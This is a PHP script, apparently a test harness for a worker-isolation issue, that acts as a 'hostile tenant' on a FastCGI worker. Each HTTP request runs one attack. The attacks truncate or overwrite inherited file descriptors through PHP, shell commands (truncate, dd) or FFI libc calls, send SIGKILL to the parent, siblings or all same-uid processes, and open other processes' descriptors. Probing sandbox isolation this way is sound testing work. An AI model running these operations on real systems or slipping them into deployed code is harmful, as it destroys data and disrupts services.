<?php
// A hostile tenant (issue 8): what a worker can do to the descriptors it
// inherited and to the processes around it. One attack per request.
//
//   ?op=list                   every fd: "fd=N kind=K target=T", plus what
//                              this PHP can use (posix, FFI)
//   ?op=OP&fd=N                one attack on fd N (never 0/1/2 or the
//                              connection this request arrived on):
//       php_truncate0, php_truncate_big, php_garbage
//                  fopen("/proc/self/fd/N", "r+"), ftruncate, fwrite
//       phpfd_close            fopen("php://fd/N") + fclose
//       exec_truncate0, exec_truncate_big, exec_garbage
//                  a shell child (it inherits every fd without CLOEXEC):
//                  truncate / dd on /proc/self/fd/N
//       ffi_truncate0, ffi_mmap_write, ffi_dup2, ffi_close
//                  libc through FFI, on the descriptor itself
//   ?op=kill_all               posix_kill(-1, SIGKILL): all our uid may kill
//   ?op=kill_proto             SIGKILL our parent (the prototype)
//   ?op=kill_siblings          SIGKILL every other child of our parent
//   ?op=kill&pid=N&sig=S       posix_kill(N, S) (someone else's process)
//   ?op=open_foreign&pid=N&ffd=M fopen("/proc/N/fd/M", "r+")
//
// Output: "key=value" lines; "result=" says what the attack achieved.
header('Content-Type: text/plain');
const BIG = 1 << 28;
error_reporting(E_ALL);
ini_set('display_errors', '0');

// Every warning since the last call, in order (php://fd, for one, warns
// twice: why, then "Failed to open stream").
$GLOBALS['errors'] = [];
set_error_handler(function ($no, $msg) {
    $GLOBALS['errors'][] = str_replace("\n", ' ', $msg);
    return true;
});
function last_error_text() {
    $e = $GLOBALS['errors'];
    $GLOBALS['errors'] = [];
    return $e ? implode(' | ', $e) : 'no error';
}

// inode => [flags, state, path] of every unix socket, from /proc/net/unix.
function unix_sockets() {
    $out = [];
    $lines = @file('/proc/net/unix', FILE_IGNORE_NEW_LINES) ?: [];
    array_shift($lines);
    foreach ($lines as $l) {
        $f = preg_split('/\s+/', trim($l));
        if (count($f) < 7) {
            continue;
        }
        $out[$f[6]] = [hexdec($f[3]), $f[5], $f[7] ?? ''];
    }
    return $out;
}

// inode => state ("0A" = listen, "01" = established) of TCP sockets.
function tcp_sockets() {
    $out = [];
    foreach (['/proc/net/tcp', '/proc/net/tcp6'] as $file) {
        $lines = @file($file, FILE_IGNORE_NEW_LINES) ?: [];
        array_shift($lines);
        foreach ($lines as $l) {
            $f = preg_split('/\s+/', trim($l));
            if (count($f) >= 10) {
                $out[$f[9]] = $f[3];
            }
        }
    }
    return $out;
}

// fd => [kind, target]. kind: listen (a listening socket), conn (a
// connected stream socket: the FastCGI connection being served), socket,
// memfd, file, pipe, anon, dev, other.
function fds() {
    $unix = unix_sockets();
    $tcp = tcp_sockets();
    $out = [];
    foreach (@scandir('/proc/self/fd') ?: [] as $n) {
        if (!ctype_digit($n)) {
            continue;
        }
        $t = @readlink("/proc/self/fd/$n");
        if ($t === false) {
            continue; // the directory handle scandir itself used
        }
        $kind = 'other';
        if (preg_match('/^socket:\[(\d+)\]$/', $t, $m)) {
            $kind = 'socket';
            if (isset($unix[$m[1]])) {
                [$flags, $state, $path] = $unix[$m[1]];
                if ($flags & 0x10000) {
                    $kind = 'listen';
                } elseif ($state === '03') {
                    $kind = 'conn';
                }
                $t .= " unix $path";
            } elseif (isset($tcp[$m[1]])) {
                $kind = $tcp[$m[1]] === '0A' ? 'listen' : ($tcp[$m[1]] === '01' ? 'conn' : 'socket');
                $t .= ' tcp';
            }
        } elseif (str_starts_with($t, '/memfd:')) {
            $kind = 'memfd';
        } elseif (str_starts_with($t, 'pipe:')) {
            $kind = 'pipe';
        } elseif (str_starts_with($t, 'anon_inode:')) {
            $kind = 'anon';
        } elseif (str_starts_with($t, '/dev/')) {
            $kind = 'dev';
        } elseif (str_starts_with($t, '/')) {
            $kind = 'file';
        }
        $out[(int)$n] = [$kind, $t];
    }
    ksort($out);
    return $out;
}

function ffi_libc(&$why) {
    if (!extension_loaded('ffi')) {
        $why = 'ffi extension not loaded';
        return null;
    }
    try {
        return FFI::cdef('
            int close(int fd);
            int dup2(int oldfd, int newfd);
            int open(const char *path, int flags);
            int ftruncate(int fd, long length);
            long mmap(void *addr, size_t length, int prot, int flags, int fd, long offset);
            int munmap(long addr, size_t length);
            long memset(long s, int c, size_t n);
            int *__errno_location(void);
            char *strerror(int errnum);
        ', 'libc.so.6');
    } catch (Throwable $e) {
        $why = get_class($e) . ': ' . str_replace("\n", ' ', $e->getMessage());
        return null;
    }
}

function ffi_err($libc) {
    $errno = $libc->__errno_location()[0];
    return "errno=$errno (" . FFI::string($libc->strerror($errno)) . ')';
}

function fstat_size($n) {
    $st = @stat("/proc/self/fd/$n");
    return $st ? $st['size'] : -1;
}

// "dev:ino" of what fd N is (stat follows the /proc link; fopen cannot).
function dev_ino($n) {
    $st = @stat("/proc/self/fd/$n");
    return $st ? $st['dev'] . ':' . $st['ino'] : '?';
}

// The open flags of fd N (octal, from fdinfo) and whether exec closes it.
function fd_flags($n) {
    $info = @file_get_contents("/proc/self/fdinfo/$n");
    if ($info === false || !preg_match('/^flags:\s*([0-7]+)/m', $info, $m)) {
        return 'flags=? cloexec=?';
    }
    return "flags=0$m[1] cloexec=" . ((octdec($m[1]) & 02000000) ? 'yes' : 'no');
}

$op = $_GET['op'] ?? 'list';
echo "op=$op\n";
echo 'pid=', getmypid(), "\n";
echo 'ppid=', function_exists('posix_getppid') ? posix_getppid() : 'posix not loaded', "\n";
echo 'uid=', function_exists('posix_getuid') ? posix_getuid() : '?', "\n";

if ($op === 'list') {
    $why = '';
    $libc = ffi_libc($why);
    echo 'posix=', extension_loaded('posix') ? 'loaded' : 'not loaded', "\n";
    echo 'posix_kill=', function_exists('posix_kill') ? 'available' : 'disabled or missing', "\n";
    echo 'ffi=', extension_loaded('ffi') ? 'loaded' : 'not loaded', "\n";
    echo 'ffi.enable=', ini_get('ffi.enable'), "\n";
    echo 'ffi_usable=', $libc ? 'yes' : "no: $why", "\n";
    echo 'disable_functions=', ini_get('disable_functions'), "\n";
    foreach (fds() as $n => [$kind, $t]) {
        echo "fd=$n kind=$kind size=", fstat_size($n), ' ', fd_flags($n), " target=$t\n";
    }
    exit;
}

$n = isset($_GET['fd']) ? (int)$_GET['fd'] : -1;
$fds = fds();
last_error_text(); // the listing's own (suppressed) warnings
if (isset($_GET['fd'])) {
    if ($n <= 2) {
        echo "result=refused: fd $n is stdio\n";
        exit;
    }
    if (!isset($fds[$n])) {
        echo "result=skipped: this worker has no fd $n\n";
        exit;
    }
    [$kind, $t] = $fds[$n];
    if ($kind === 'conn') {
        echo "result=skipped: fd $n is the connection of this request ($t)\n";
        exit;
    }
    echo "target=$t\nkind=$kind\nsize_before=", fstat_size($n), "\n";
}

function reopen($n) {
    $h = @fopen("/proc/self/fd/$n", 'r+');
    if ($h === false) {
        echo "result=fopen(/proc/self/fd/$n, r+) failed: ", last_error_text(), "\n";
        exit;
    }
    return $h;
}

switch ($op) {
    case 'php_truncate0':
    case 'php_truncate_big':
        $h = reopen($n);
        $size = $op === 'php_truncate0' ? 0 : BIG;
        $ok = @ftruncate($h, $size);
        echo 'result=', $ok ? "ftruncate($size) succeeded" : "ftruncate($size) failed: " . last_error_text(), "\n";
        break;
    case 'php_garbage':
        $h = reopen($n);
        $bytes = str_repeat("\xff", 65536);
        @fseek($h, 0);
        $w = @fwrite($h, $bytes);
        @fflush($h);
        echo 'result=', $w ? "wrote $w bytes at offset 0" : 'fwrite failed: ' . last_error_text(), "\n";
        break;
    case 'exec_truncate0':
    case 'exec_truncate_big':
    case 'exec_garbage':
        if (!function_exists('proc_open')) {
            echo "result=proc_open is disabled\n";
            break;
        }
        $cmd = [
            'exec_truncate0' => "truncate -s 0 /proc/self/fd/$n",
            'exec_truncate_big' => 'truncate -s ' . BIG . " /proc/self/fd/$n",
            'exec_garbage' => "dd if=/dev/urandom of=/proc/self/fd/$n bs=65536 count=1 conv=notrunc status=none",
        ][$op];
        // 0/1/2 are replaced; every other fd without CLOEXEC goes along.
        // The child's fd N must be the worker's fd N, not something of
        // its own (proc_open's pipes, say).
        $same = dev_ino($n);
        $check = "[ \"\$(stat -L -c %d:%i /proc/self/fd/$n 2>/dev/null)\" = '$same' ] || { echo \"the child has no fd $n of the worker's (it is CLOEXEC)\"; exit 3; }";
        $p = proc_open("$check; $cmd 2>&1; echo \"rc=\$?\"", [0 => ['file', '/dev/null', 'r'], 1 => ['pipe', 'w'], 2 => ['file', '/dev/null', 'w']], $pipes);
        if (!is_resource($p)) {
            echo 'result=proc_open failed: ', last_error_text(), "\n";
            break;
        }
        $out = trim(str_replace("\n", ' ', stream_get_contents($pipes[1])));
        fclose($pipes[1]);
        proc_close($p);
        echo 'result=', str_ends_with($out, 'rc=0') ? "`$cmd` in a shell child succeeded" : "`$cmd` in a shell child failed: $out", "\n";
        break;
    case 'phpfd_close':
        $h = @fopen("php://fd/$n", 'r+');
        if ($h === false) {
            echo "result=fopen(php://fd/$n) failed: ", last_error_text(), "\n";
            break;
        }
        $ok = fclose($h);
        echo 'result=', $ok ? 'fclose succeeded' : 'fclose failed', "\n";
        break;
    case 'ffi_truncate0':
    case 'ffi_mmap_write':
    case 'ffi_dup2':
    case 'ffi_close':
        $why = '';
        $libc = ffi_libc($why);
        if (!$libc) {
            echo "result=FFI unavailable: $why\n";
            break;
        }
        if ($op === 'ffi_truncate0') {
            $rc = $libc->ftruncate($n, 0);
            echo 'result=', $rc === 0 ? 'ftruncate(0) succeeded' : 'ftruncate(0) failed: ' . ffi_err($libc), "\n";
        } elseif ($op === 'ffi_close') {
            $rc = $libc->close($n);
            echo 'result=', $rc === 0 ? 'close succeeded' : 'close failed: ' . ffi_err($libc), "\n";
        } elseif ($op === 'ffi_dup2') {
            $null = $libc->open('/dev/null', 2);
            $rc = $libc->dup2($null, $n);
            $err = ffi_err($libc);
            $libc->close($null);
            echo 'result=', $rc === $n ? "dup2(/dev/null, $n) succeeded" : "dup2 failed: $err", "\n";
        } else {
            $len = 1 << 20;
            // PROT_READ|PROT_WRITE, MAP_SHARED
            $p = $libc->mmap(null, $len, 3, 1, $n, 0);
            // Declared as returning long: -1 is MAP_FAILED.
            if ($p === -1) {
                echo 'result=mmap failed: ', ffi_err($libc), "\n";
                break;
            }
            // Only what the file holds can be touched without SIGBUS.
            $size = max(0, min($len, fstat_size($n)));
            $libc->memset($p, 0xa5, $size);
            $libc->munmap($p, $len);
            echo "result=mmap succeeded, wrote $size bytes\n";
        }
        break;
    case 'kill_proto':
        $pp = posix_getppid();
        echo "target=$pp\n";
        flush();
        $ok = posix_kill($pp, 9);
        echo 'result=', $ok ? "SIGKILL sent to $pp" : 'posix_kill failed: ' . posix_strerror(posix_get_last_error()), "\n";
        break;
    case 'kill_siblings':
        $pp = posix_getppid();
        $me = getmypid();
        $done = [];
        foreach (@scandir('/proc') ?: [] as $p) {
            if (!ctype_digit($p) || (int)$p === $me) {
                continue;
            }
            $stat = @file_get_contents("/proc/$p/stat");
            if ($stat === false) {
                continue;
            }
            $rest = explode(' ', trim(substr($stat, strrpos($stat, ')') + 2)));
            if ((int)$rest[1] === $pp) {
                $ok = posix_kill((int)$p, 9);
                $done[] = $p . ($ok ? ':killed' : ':' . posix_strerror(posix_get_last_error()));
            }
        }
        echo 'result=', $done ? implode(' ', $done) : 'no siblings', "\n";
        break;
    case 'kill_all':
        flush();
        $ok = posix_kill(-1, 9);
        echo 'result=', $ok ? 'kill(-1, SIGKILL) succeeded' : 'posix_kill failed: ' . posix_strerror(posix_get_last_error()), "\n";
        break;
    case 'kill':
        $pid = (int)($_GET['pid'] ?? 0);
        $sig = (int)($_GET['sig'] ?? 9);
        echo "target=$pid\n";
        $ok = $pid > 1 && posix_kill($pid, $sig);
        echo 'result=', $ok ? "signal $sig sent to $pid" : 'posix_kill failed: errno=' . posix_get_last_error() . ' ' . posix_strerror(posix_get_last_error()), "\n";
        break;
    case 'open_foreign':
        $pid = (int)($_GET['pid'] ?? 0);
        $m = (int)($_GET['ffd'] ?? 0);
        $h = @fopen("/proc/$pid/fd/$m", 'r+');
        echo 'result=', $h ? "opened /proc/$pid/fd/$m" : "fopen(/proc/$pid/fd/$m) failed: " . last_error_text(), "\n";
        break;
    default:
        echo "result=unknown op\n";
}
if ($n > 2 && isset($fds[$n])) {
    echo 'size_after=', fstat_size($n), "\n";
}
